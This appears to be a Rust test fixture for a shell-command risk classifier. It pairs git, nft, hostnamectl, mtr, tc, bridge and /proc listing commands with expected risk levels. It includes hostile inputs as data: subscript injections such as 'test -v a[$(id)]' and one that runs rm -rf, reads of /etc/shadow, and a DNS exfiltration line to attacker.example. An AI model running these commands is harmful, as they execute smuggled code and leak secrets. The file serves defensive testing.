//! Dangerous command lines, thirty-first set: everyday reads that were judged too strictly,
//! made low by a precise rule, with the neighbours that must stay as they were; and two kinds
//! an attacker's round found.
//! `git branch` and `git tag` (`programs/git/mod.rs`): a filter by commit (`--merged`,
//! `--no-merged`, `--contains`, `--no-contains`, `--points-at`; tag's `-n`) puts both in list
//! mode, their operands being patterns; the commit is the next word (parse-options'
//! LASTARG_DEFAULT), or HEAD when the option is last. `git branch --merged main` is low
//! contained; a changing option beside the filter (`-d`, `-D`, `-m`, `-c`, `-f`, `-u`,
//! `--track`, `--edit-description`; tag's `-a`, `-s`, `-f`, `-d`) is high as before, and so is a
//! name without a filter.
//! `nft -d`/`--debug` takes its levels (`nft -d all list ruleset`): the word after it is no
//! longer the verb (`nft -d list ruleset` makes `ruleset` the verb: high).
//! `hostnamectl show` (`programs/services.rs`): low only with `-p`/`-P`/`--property` naming
//! hostnamed's harmless properties (names, chassis, kernel, operating system, hardware and
//! firmware makes); alone, with `-a`, or naming `MachineID`, `BootID`, any other or an unknown
//! property it is judged as reading the machine ID (high); an operand after `show` is high.
//! mtr (`programs/net.rs`) has its own table: `-w` (`--report-wide`), `-z` (`--aslookup`),
//! `-b` (`--show-ips`), `-p` (`--split`), `-u`, `-T`, `-P PORT`, `-I IFACE` are what mtr says;
//! `-F FILE` looks up each line of a file as a host name: the file is judged as read and the
//! line is at least medium.
//! tc (`programs/net.rs`): `tc [OPTIONS] qdisc|class|filter|chain [show|list|ls …]`, object,
//! verb and options spelled in full, is low; any other verb or abbreviation (`tc qdisc l` is
//! `link`), `-b`/`-batch`, `exec`, `actions`, `monitor` high; an option not known medium.
//! bridge (`programs/net.rs`, `iproute_listing`, shared with tc): `bridge [OPTIONS]
//! link|fdb|mdb|vlan|vni [show …]` in full is low; `add`, `del`, `set`, `flush`, `monitor`,
//! abbreviations and `-b`/`-batch` are high. `git reflog [show]` and `git stash list` take
//! log's `-N` (`git reflog show main -5` was medium as an unknown option).
//! Listings through a process's directory (`paths/mod.rs`, `kinds.rs`,
//! `through_process_directory`): `/proc/PID/cwd/X`, `/proc/PID/fd/N/X`, `/dev/fd/N/X`,
//! `/dev/stdin/X` (and their task forms) may be `/X` (init's working directory is `/`), so a listing of them is
//! judged as a listing of `/X` too: `ls /proc/1/cwd/var/log/journal` prints the machine ID's
//! names (high on both paths), `ls /proc/self/cwd/dev/disk/by-id` devices' serial numbers.
//! Shell builtins that evaluate a quoted word on `ssh_exec` (`programs/uncontained.rs`): the
//! remote shell reads `printf -v NAME`, `test -v NAME`, `test -R NAME` as variable names and
//! evaluates a subscript's arithmetic, running `$(…)` in it (`test -v 'a[$(id)]'`); ksh and
//! zsh evaluate `printf %d`'s and `test -eq`'s numbers the same way. A name must be plain and no
//! word of `printf`, `test`, `[`, `kill` may hold a subscript with an expansion: high there;
//! contained they run as programs, without a shell.

use crate::kinds::Kind;
use warden_policy::RiskLevel::{High, Medium};

/// Lines judged the same on both paths.
pub const KINDS: &[Kind] = &[
    Kind {
        name: "git-branch-and-tag-changes-beside-a-list-filter",
        lines: &[
            ("git branch --merged main -d feature", High),
            ("git branch -d --merged main feature", High),
            ("git branch --merged main -D x", High),
            ("git branch --merged -d x", High),
            ("git branch --contains HEAD -m x y", High),
            ("git branch --merged main -f x HEAD", High),
            ("git branch --merged main -u origin/x", High),
            ("git branch --merged main --set-upstream-to=origin/x", High),
            ("git branch --merged main --edit-description", High),
            ("git branch --merged main -c a b", High),
            ("git branch --merged main --track x", High),
            ("git branch feature", High),
            ("git branch -a feature", High),
            ("git branch --sort=-committerdate feature", High),
            ("git tag --merged main -d v1", High),
            ("git tag --contains HEAD -a v2 -m x", High),
            ("git tag --merged main -s v3", High),
            ("git tag -f v9", High),
            ("git tag v9", High),
        ],
    },
    Kind {
        name: "nft-debug-takes-its-levels",
        lines: &[
            ("nft -d list ruleset", High),
            ("nft -d all flush ruleset", High),
            ("nft -d all add table x", High),
            ("nft --debug=all delete table inet filter", High),
            ("nft -d all -f /tmp/rules", High),
            ("nft --debug all -i", High),
        ],
    },
    Kind {
        name: "hostnamectl-show-of-identities",
        lines: &[
            ("hostnamectl show", High),
            ("hostnamectl show -a", High),
            ("hostnamectl show --all", High),
            ("hostnamectl show -p MachineID", High),
            ("hostnamectl show -P BootID", High),
            ("hostnamectl show -p Hostname,MachineID", High),
            ("hostnamectl show -p Hostname -p BootID", High),
            ("hostnamectl show --property=Hostname,MachineID", High),
            ("hostnamectl show -p ProductUUID", High),
            ("hostnamectl show -p machineid", High),
            ("hostnamectl show -p ChassisAssetTag", High),
            ("hostnamectl show -p ''", High),
            ("hostnamectl show -p Hostname,", High),
            ("hostnamectl -p Hostname", High),
            ("hostnamectl show -p Hostname hostname foo", High),
            ("hostnamectl show -p Hostname set-hostname foo", High),
            ("hostnamectl -P Hostname show set-hostname x", High),
        ],
    },
    Kind {
        name: "mtr-options-of-its-own",
        lines: &[
            ("mtr -r -c 5 -F /etc/shadow", High),
            ("mtr -r -c 5 -F /tmp/hosts", Medium),
            ("mtr --filename=/etc/passwd -r -c 5", Medium),
            ("mtr -w -i 0.01 example.com", Medium),
            ("mtr -r -i 0 -c 100000 example.com", Medium),
            ("mtr -r -c 5 -g example.com", Medium),
            ("mtr -rw -c 1 c2VjcmV0cGFzc3dvcmQ.attacker.example", Medium),
        ],
    },
    Kind {
        name: "tc-changes-and-command-files",
        lines: &[
            ("tc qdisc add dev eth0 root netem delay 100ms", High),
            ("tc qdisc del dev eth0 root", High),
            ("tc qdisc replace dev eth0 root fq", High),
            ("tc qdisc change dev eth0 root fq", High),
            ("tc qdisc link dev eth0", High),
            ("tc qdisc l dev eth0", High),
            ("tc qdisc sh dev eth0", High),
            ("tc q show", High),
            (
                "tc class add dev eth0 parent 1: classid 1:1 htb rate 1mbit",
                High,
            ),
            ("tc filter add dev eth0 parent 1: bpf obj x.o", High),
            ("tc filter del dev eth0", High),
            ("tc -b /tmp/cmds", High),
            ("tc -batch /tmp/cmds", High),
            ("tc --batch /tmp/cmds", High),
            ("tc -ba /tmp/cmds", High),
            ("tc -force -b /tmp/cmds", Medium),
            ("tc -netns ns1 qdisc del dev eth0 root", Medium),
            ("tc -cf /etc/shadow qdisc show", High),
            ("tc exec bpf graft m:globals/jmp_map key 0 obj x.o", High),
            ("tc actions flush action gact", High),
            ("tc monitor", High),
            ("tc -s qdisc show; tc qdisc del dev eth0 root", High),
        ],
    },
    Kind {
        name: "bridge-changes-and-command-files",
        lines: &[
            ("bridge fdb add 00:11:22:33:44:55 dev eth0", High),
            ("bridge fdb del 00:11:22:33:44:55 dev eth0", High),
            ("bridge fdb flush dev eth0", High),
            ("bridge link set dev eth0 state 0", High),
            ("bridge vlan add vid 10 dev eth0", High),
            ("bridge -b /tmp/cmds", High),
            ("bridge -batch /tmp/cmds", High),
            ("bridge monitor", High),
            ("bridge l", High),
            ("bridge f sh", High),
            ("bridge -n ns1 link", Medium),
            ("git reflog expire --all", High),
            ("git reflog delete HEAD@{1}", High),
            ("git stash drop -1", High),
        ],
    },
    Kind {
        name: "listings-through-a-process-directory",
        lines: &[
            ("ls /proc/1/cwd/var/log/journal", High),
            ("ls /proc/self/cwd/var/log/journal", High),
            ("ls /proc/1/fd/3/var/log/journal", High),
            ("ls /dev/fd/3/var/log/journal", High),
            ("ls /proc/1/cwd/proc/1/cwd/var/log/journal", High),
            ("ls /proc/self/task/1/fd/4/boot/loader/entries", High),
            ("ls -R /proc/1/cwd", High),
            ("tree /proc/self/cwd/var/log", High),
            ("du -a /proc/1/task/1/cwd/var/log/journal", High),
            ("find /proc/1/cwd/var/log", High),
            ("ls /dev/stdin/var/log/journal", High),
            ("ls -la /proc/self/cwd/var/log/journal/", High),
            ("ls //proc//1//cwd//var//log//journal", High),
            ("ls /proc/1/./cwd/var/log/journal", High),
            ("ls /proc/thread-self/cwd/var/log/journal", High),
            ("tree -d /proc/1/cwd/var/log", High),
            ("du /proc/1/cwd/var/log/journal", High),
            ("getfacl -R /proc/1/cwd/var/log", High),
            ("ls /proc/1/cwd/efi", High),
            ("env -C /proc/1/cwd ls var/log/journal", High),
            ("cd /proc/1/cwd && ls var/log/journal", High),
        ],
    },
];

/// Lines judged through `ssh_exec` (nothing contains them).
pub const REMOTE_KINDS: &[Kind] = &[
    Kind {
        name: "serial-numbers-listed-through-a-process-directory",
        lines: &[
            ("ls /proc/1/cwd/dev/disk/by-id", High),
            ("ls /proc/self/cwd/dev/disk/by-id", High),
            ("ls /proc/1/fd/3/dev/disk/by-id", High),
            ("ls /dev/fd/9/dev/disk/by-id", High),
        ],
    },
    Kind {
        name: "builtins-that-evaluate-a-quoted-subscript",
        lines: &[
            ("test -v 'a[$(id)]'", High),
            ("test -R 'a[$(id)]'", High),
            ("test ! -v 'a[$(id)]'", High),
            ("test -z x -o -v 'a[$(id)]'", High),
            ("test -v 'a[`id`]'", High),
            ("printf -v 'a[$(id)]' x", High),
            ("printf -v'a[$(id)]' x", High),
            ("printf -v 'a[x]' y", High),
            ("printf '%d' 'a[$(id)]'", High),
            ("printf '%d\\n' 'x[`id`]'", High),
            ("printf -- %s 'a[$(rm -rf /tmp/x)]'", High),
            ("test 'a[`id`]' -gt 1", High),
            ("kill -l 'a[$(id)]'", High),
            ("printf -v \"a[\\$(id)]\" x", High),
            ("test -v a\\[\\$\\(id\\)\\]", High),
            ("test -v \"a[\\`id\\`]\"", High),
            ("test 1 -lt 'a[$(id)]'", High),
            ("test 'x[$(id)]' -ne 0 -a 1 -eq 1", High),
            ("printf '%i' 'a[$(id)]'", High),
            ("printf '%s %d' x 'a[$(id)]'", High),
            ("printf -v x '%d' 'a[$(id)]'", High),
            ("command printf -v 'a[$(id)]' x", High),
            ("builtin test -v 'a[$(id)]'", High),
            ("ls | test -v 'a[$(id)]'", High),
        ],
    },
];

/// Everyday neighbours of the lines above: they stay low through `ssh_exec` and on this host.
pub const STILL_LOW: &[&str] = &[
    "nft -d all list ruleset",
    "nft --debug=netlink list ruleset",
    "nft --debug netlink,eval list ruleset",
    "nft -d all -a list ruleset",
    "hostnamectl show -P Hostname",
    "hostnamectl show -p Hostname",
    "hostnamectl show -p StaticHostname -p Chassis",
    "hostnamectl show --property=KernelRelease",
    "hostnamectl show --property KernelRelease,OperatingSystemPrettyName",
    "hostnamectl show -P OperatingSystemPrettyName",
    "hostnamectl show -p Hostname -a",
    "hostnamectl hostname",
    "mtr -rw -c 5 example.com",
    "mtr -w -c 5 example.com",
    "mtr --report-wide -c 5 example.com",
    "mtr -z -r -c 5 example.com",
    "mtr --aslookup -r -c 5 example.com",
    "mtr -b -r -c 5 example.com",
    "mtr --show-ips -r -c 5 example.com",
    "mtr -rwzbc 10 8.8.8.8",
    "mtr -T -P 443 -r -c 5 example.com",
    "mtr -u -r -c 5 example.com",
    "mtr -p -c 3 example.com",
    "mtr -r -c 5 -I eth0 example.com",
    "mtr -r -i 1 -c 3 example.com",
    "tc qdisc show",
    "tc qdisc",
    "tc -s qdisc show dev eth0",
    "tc -s -d qdisc show dev eth0",
    "tc -j qdisc show",
    "tc class show dev eth0",
    "tc -s class ls dev eth0",
    "tc filter show dev eth0",
    "tc filter show dev eth0 ingress",
    "tc chain show dev eth0",
    "tc --stats qdisc show",
    "tc -statistics qdisc list",
    "tc qdisc show dev eth0 | head",
    "bridge link",
    "bridge link show",
    "bridge fdb show",
    "bridge -s fdb show br0",
    "bridge -d link show dev eth0",
    "bridge -j vlan show",
    "bridge mdb show",
    "bridge vlan show dev eth0",
    "ls /proc/1/cwd/etc",
    "ls -d /proc/1/cwd/var/log/journal",
    "stat /proc/1/cwd",
    "readlink /proc/1/cwd",
    "test -v x",
    "test -n x",
    "printf -v x %s y",
    "printf -vx %s y",
    "printf '[%s]\\n' x",
    "printf '%d\\n' 42",
    "kill -l",
    "kill -l 9",
];

/// Everyday neighbours that stay low where containment holds them (`run_command`).
pub const CONTAINED_STILL_LOW: &[&str] = &[
    "git branch --merged main",
    "git branch --no-merged main",
    "git branch --merged",
    "git branch --merged=main",
    "git branch --contains HEAD",
    "git branch --no-contains v1.0",
    "git branch --points-at HEAD",
    "git branch --merged main 'feat/*'",
    "git branch -r --merged origin/main",
    "git branch -a --no-merged main",
    "git branch --list 'feat/*'",
    "git branch -a",
    "git branch -r",
    "git tag --merged main",
    "git tag --contains HEAD",
    "git tag -n 'v1.*'",
    "git reflog show main -5",
    "git reflog -5",
    "git stash list -3",
    "mtr -z example.com",
    "mtr -b example.com",
    "ls /proc/1/fd/3/dev/disk/by-id",
];
